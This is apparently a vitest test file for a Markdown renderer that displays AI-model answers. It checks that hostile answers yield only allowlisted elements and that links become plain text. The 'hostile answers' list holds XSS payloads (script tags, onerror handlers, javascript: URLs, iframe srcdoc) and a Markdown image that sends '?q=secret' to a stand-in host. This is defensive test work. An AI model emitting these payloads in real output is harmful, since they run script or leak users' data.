// Whatever a model writes becomes elements of a short list, text elsewhere, and never anything that loads or leads away.
import { render, h } from 'preact';
import { describe, expect, test } from 'vitest';
import { type Inlines, renderInline, renderMarkdown } from '../lib/markdown.ts';
import type { Quote } from '../lib/connection/protocol.ts';

const ALLOWED = new Set('P UL OL LI STRONG EM CODE PRE BLOCKQUOTE TABLE THEAD TBODY TR TH TD H4 HR BR SPAN DIV BUTTON'.split(' '));
const ATTRIBUTES = new Set(['class', 'start', 'data-n', 'data-at', 'dir', 'role', 'aria-label', 'tabindex']);

function inlinesOf(quotes: Quote[], blocks: number): Inlines {
  return {
    quotes, blocks, tableLabel: 'table', codeLabel: 'code',
    cite: (n, at) => h('button', { class: 'cite', 'data-n': n, 'data-at': at }, n),
    quote: (quote) => h('button', { class: quote.verified ? 'quote' : 'absent' }, quote.text),
  };
}

function show(answer: string, quotes: Quote[] = [], blocks = 20): HTMLElement {
  const root = document.createElement('div');
  render(h('div', null, renderMarkdown({ text: answer, at: 0 }, inlinesOf(quotes, blocks))), root);
  return root;
}

const quoteAt = (answer: string, text: string, verified = true): Quote => ({
  text, verified, at: answer.indexOf(`"${text}"`), block: verified ? 1 : null, start: verified ? 0 : null, end: verified ? text.length : null,
});

describe('hostile answers', () => {
  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<svg><a xlink:href="javascript:1"><text>x</text></a></svg>',
    '![a](https://evil.example/?q=secret)',
    '![a][r]\n\n[r]: https://evil.example/x.png',
    '[click](javascript:alert(1))',
    '[click](data:text/html,<script>1</script>)',
    '<https://evil.example/>',
    'https://evil.example/autolink',
    '[1]: https://evil.example\n\nSee [1]',
    '- [ ] <input type=text autofocus onfocus=alert(1)>',
    '| a |\n|---|\n| <img src=x onerror=1> |',
    '```html\n<script>1</script>\n```',
    '`<b onmouseover=1>`',
    '> <style>*{display:none}</style>',
    '# <object data=x>',
    '~~<embed src=x>~~',
    '\uE0000\uE001 \uE00099\uE001',
    '<math><mtext><mglyph><style><img src=x onerror=1>',
    '[[[[[[[[[[1]](x)](y)',
  ])('%j shows only allowed elements', (answer) => {
    for (const element of show(answer).querySelectorAll('*')) {
      expect(ALLOWED).toContain(element.tagName);
      for (const name of element.getAttributeNames()) expect(ATTRIBUTES).toContain(name);
    }
  });

  test('HTML is shown as it was written', () => {
    expect(show('a <b>b</b>').textContent).toBe('a <b>b</b>');
  });

  test('a link is text with its host', () => {
    const root = show('[the bank](https://evil.example/login)');
    expect(root.textContent).toBe('the bank (evil.example)');
    expect(root.querySelector('a')).toBeNull();
  });
});

describe('ordinary answers', () => {
  test('keeps the line that the instructions ask for on a line of its own', () => {
    const root = show('It renews.\nNot legal advice.');
    expect(root.querySelectorAll('br')).toHaveLength(1);
  });

  test('paragraphs, lists, bold, code, tables and headings', () => {
    const root = show('# Top\n\nA **b** *c* `d`\n\n3. x\n4. y\n\n| k | v |\n|---|---|\n| 1 | 2 |\n\n> q\n\n```\ncode\n```');
    for (const tag of ['h4', 'p', 'strong', 'em', 'code', 'ol', 'table', 'blockquote', 'pre']) expect(root.querySelector(tag)).not.toBeNull();
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  test('citations of blocks that exist become buttons, others stay text', () => {
    const root = show('Yes [3], no [21], zero [0].', [], 20);
    expect([...root.querySelectorAll('.cite')].map((cite) => cite.textContent)).toEqual(['3']);
    expect(root.textContent).toBe('Yes 3, no [21], zero [0].');
  });

  test('quotes are taken by their place, and what they say is never Markdown', () => {
    const answer = 'It says "a **b** [2] `c`" and "gone" [4].';
    const root = show(answer, [quoteAt(answer, 'a **b** [2] `c`'), quoteAt(answer, 'gone', false)]);
    expect(root.querySelector('.quote')?.textContent).toBe('a **b** [2] `c`');
    expect(root.querySelector('.absent')?.textContent).toBe('gone');
    expect(root.querySelector('strong')).toBeNull();
    expect([...root.querySelectorAll('.cite')].map((cite) => cite.textContent)).toEqual(['4']);
  });

  test('a quote whose place does not fit is left as text', () => {
    expect(show('Only "this".', [{ text: 'that', verified: true, at: 5, block: 1, start: 0, end: 4 }]).textContent).toBe('Only "this".');
  });

  test('in code, citations and quotes are plain characters', () => {
    const answer = '`x[1] = "y"`';
    expect(show(answer, [quoteAt(answer, 'y')]).textContent).toBe('x[1] = "y"');
  });

  test('a part of an answer has its own quotes and citations, counted in the whole', () => {
    const answer = 'First "one" [1]. Then "two" [2].';
    const root = document.createElement('div');
    const inlines = inlinesOf([quoteAt(answer, 'one'), quoteAt(answer, 'two')], 20);
    render(h('div', null, renderMarkdown({ text: answer.slice(17), at: 17 }, inlines)), root);
    expect([...root.querySelectorAll('.quote')].map((quote) => quote.textContent)).toEqual(['two']);
    expect(root.querySelector('.cite')?.getAttribute('data-at')).toBe(String(answer.indexOf('[2]')));
  });

  test('a line that looks like a list is a line where only a line can stand', () => {
    const root = document.createElement('div');
    render(h('div', null, renderInline({ text: '4. **June** 2024 [3]', at: 0 }, inlinesOf([], 20))), root);
    expect(root.textContent).toBe('4. June 2024 3');
    expect(root.querySelector('ol')).toBeNull();
    expect(root.querySelector('strong')).not.toBeNull();
  });

  test('tables and code can be scrolled by keyboard, and text has the direction of its script', () => {
    const root = show('| k |\n|---|\n| 1 |\n\n```\ncode\n```\n\nمرحبا');
    for (const element of root.querySelectorAll('.table, pre')) expect(element.getAttribute('tabindex')).toBe('0');
    expect(root.querySelector('p')?.getAttribute('dir')).toBe('auto');
  });
});
